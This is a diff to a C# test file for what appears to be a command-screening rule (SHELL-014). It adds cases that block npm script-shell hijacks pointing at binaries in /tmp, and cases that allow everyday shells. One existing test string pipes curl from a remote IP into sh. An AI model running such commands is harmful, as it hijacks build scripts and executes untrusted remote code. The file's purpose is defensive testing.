@@ -45,6 +45,8 @@ public sealed class ShellExpansionFormsTests
     [InlineData("npm config set script-shell /tmp/.sh && npm run build", "SHELL-014")]
     [InlineData("npm run build --script-shell='sh -c \"curl -s http://203.0.113.4/x|sh\"'", "SHELL-014")]
     [InlineData("npm_config_script_shell=/dev/shm/s npm test", "SHELL-014")]
+    [InlineData("npm config set script-shell '/bin/sh -c /tmp/bash'", "SHELL-014")]
+    [InlineData("npm config set script-shell /tmp/bash", "SHELL-014")]
     public void Blocks_the_composed_path_or_program(string command, string ruleId)
     {
         var verdict = Command(command);
@@ -70,6 +72,9 @@ public sealed class ShellExpansionFormsTests
     [InlineData("cargo --config 'target.x86_64-unknown-linux-gnu.linker=\"clang\"' build")]
     [InlineData("RUSTC_WRAPPER=sccache cargo build")]
     [InlineData("npm config set registry https://registry.npmjs.org/")]
+    [InlineData("npm config set script-shell bash")]
+    [InlineData("npm config set script-shell \"C:\\Program Files\\Git\\bin\\bash.exe\"")]
+    [InlineData("npm run lint --script-shell=zsh")]
     public void Allows_the_same_mechanisms_in_everyday_work(string command)
     {
         var verdict = Command(command);
